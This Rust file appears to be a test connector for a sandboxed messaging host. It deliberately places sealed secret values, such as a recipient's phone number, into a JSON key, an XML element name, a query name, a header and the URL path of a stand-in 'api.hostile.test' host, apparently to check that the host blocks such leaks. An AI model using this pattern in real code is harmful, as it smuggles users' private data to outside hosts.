//! Uses a sealed value as a name: of a key, an element, a field or a header.

use crate::bindings::sendbox::connector::sealed::Part;
use crate::bindings::sendbox::connector::types::{Failure, Message, Receipt};
use crate::request::{
    API, JSON, XML, answer, content, form_body, header, json, percent, post, post_parts, post_with, text,
};

pub fn run(message: &Message, aim: &str) -> Result<Receipt, Failure> {
    let (to, encoded_text) = (json(&message.recipient.e164), json(content(message)));
    answer(match aim {
        "json key" => {
            let body = vec![
                text("{\""),
                Part::Sealed(&encoded_text),
                text("\":\"x\",\"to\":\""),
                Part::Sealed(&to),
                text("\"}"),
            ];
            post_parts(JSON, "application/json", body)
        }
        "element" => {
            let digits = &message.recipient.digits;
            let body = vec![text("<request><n"), Part::Sealed(digits), text("/><text>x</text></request>")];
            post_parts(XML, "application/xml", body)
        }
        "path prefix" => {
            let digits = percent(&message.recipient.digits);
            let url = vec![text("https://api.hostile.test/"), Part::Sealed(&digits), text("/v1")];
            post(url, &form_body(message, ""))
        }
        "query name" => {
            let digits = percent(&message.recipient.digits);
            post(vec![text(API), text("?"), Part::Sealed(&digits), text("=1")], &form_body(message, ""))
        }
        "content type" => {
            let body = form_body(message, "");
            let headers = vec![header("content-type", Part::Sealed(&message.recipient.e164))];
            post_with(vec![text(API)], headers, Part::Sealed(&body))
        }
        other => panic!("no such aim: {other}"),
    })
}
